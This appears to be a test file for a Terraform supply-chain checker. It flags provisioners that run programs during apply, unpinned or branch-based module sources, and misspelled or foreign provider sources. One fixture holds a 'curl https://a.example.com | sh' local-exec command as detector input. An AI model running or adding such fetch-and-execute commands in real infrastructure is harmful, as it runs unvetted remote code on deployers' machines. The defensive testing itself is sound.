import { CHECKS } from "../../../src/checks/all";
import { newlyFound, found } from "../../support/findings";
import { environmentWithOwnFile } from "../../support/own-stacks";
import { CLUSTER, ML, edited } from "./edits";

const ASKED = CHECKS.filter(({ id }) =>
  ["programs-of-apply", "module-versions", "version-ranges"].includes(id),
);
const foundIn = (text: string): string[] => found(ASKED, environmentWithOwnFile(ML, "cluster", text));
const data = (body: string): string => `resource "terraform_data" "a" {\n${body}\n}\n`;

test.each([
  [
    "a program of the machine",
    data('  provisioner "local-exec" {\n    command = "curl https://a.example.com | sh"\n  }'),
    /^programs-of-apply terraform_data\.a: .*local-exec.*deployer/,
  ],
  [
    "a program on another machine",
    data(
      '  connection {\n    host = "203.0.113.7"\n  }\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }',
    ),
    /^programs-of-apply terraform_data\.a: .*remote-exec.*203\.0\.113\.7/,
  ],
  [
    "two programs of one block",
    data(
      '  provisioner "local-exec" {\n    command = "a"\n  }\n  provisioner "file" {\n    content = "a"\n    destination = "b"\n  }',
    ),
    /^programs-of-apply terraform_data\.a: .*file.*local-exec/,
  ],
  [
    "a module without a version",
    'module "a" {\n  source = "terraform-aws-modules/iam/aws"\n}\n',
    /^module-versions module\.a: .*no version/,
  ],
  [
    "a module with a range of versions",
    'module "a" {\n  source = "terraform-aws-modules/iam/aws"\n  version = "~> 5.0"\n}\n',
    /^module-versions module\.a: .*~> 5\.0/,
  ],
  [
    "a module of a branch",
    'module "a" {\n  source = "git::https://git.example.com/a.git?ref=main"\n}\n',
    /^module-versions module\.a: .*main/,
  ],
  [
    "a module of the head of a repository",
    'module "a" {\n  source = "git::https://git.example.com/a.git"\n}\n',
    /^module-versions module\.a: .*no commit/,
  ],
  ["a module of a folder", 'module "a" {\n  source = "./a"\n}\n', /^module-versions module\.a: .*not copied/],
  [
    "a module of an archive",
    'module "a" {\n  source = "https://a.example.com/a.zip"\n}\n',
    /^module-versions module\.a: .*https:\/\/a\.example\.com\/a\.zip/,
  ],
])("%s is named once", (_, text, words) => {
  expect(foundIn(text)).toEqual([expect.stringMatching(words)]);
});

test.each([
  ["a block without a program", data("  input = 1")],
  [
    "a module of a release",
    'module "a" {\n  source = "terraform-aws-modules/iam/aws"\n  version = "5.0.1"\n}\n',
  ],
  [
    "a module of exactly a release",
    'module "a" {\n  source = "a.example.com/x/y/z"\n  version = "= 5.0.1"\n}\n',
  ],
  [
    "a module of a commit",
    'module "a" {\n  source = "git::https://git.example.com/a.git//b?ref=0123456789abcdef0123456789abcdef01234567"\n}\n',
  ],
  [
    "a module of a commit of GitHub",
    'module "a" {\n  source = "github.com/a/b?ref=0123456789abcdef0123456789abcdef01234567"\n}\n',
  ],
])("%s is accepted", (_, text) => {
  expect(foundIn(text)).toEqual([]);
});

test.each([
  ["a list", [{ "local-exec": { command: "env" } }]],
  ["an object", { "local-exec": [{ command: "env" }] }],
])("a program in a generated block is named, as %s", (_, provisioner) => {
  const edit = edited("cluster", CLUSTER, (each) => (each["provisioner"] = provisioner));
  expect(newlyFound(ASKED, ML, edit)).toEqual([
    expect.stringMatching(/^programs-of-apply aws_eks_cluster\.main: .*local-exec/),
  ]);
});

test.each([
  ["a stranger's", "stranger/aws", 1],
  ["a misspelled one", "hashicopr/aws", 1],
  ["that of a foreign registry", "a.example.com/hashicorp/aws", 1],
  ["HashiCorp's", "hashicorp/aws", 0],
  ["HashiCorp's in the public registry", "registry.terraform.io/hashicorp/aws", 0],
  ["HashiCorp's in the registry of OpenTofu", "registry.opentofu.org/hashicorp/aws", 0],
])("%s provider of AWS", (_, source, findings) => {
  const added = newlyFound(ASKED, ML, ({ cluster }) => {
    cluster.terraform.required_providers.aws.source = source;
  });
  expect(added).toEqual(
    Array.from({ length: findings }, () =>
      expect.stringContaining(
        `version-ranges terraform: versions: provider aws has the source ${source}, expected`,
      ),
    ),
  );
});
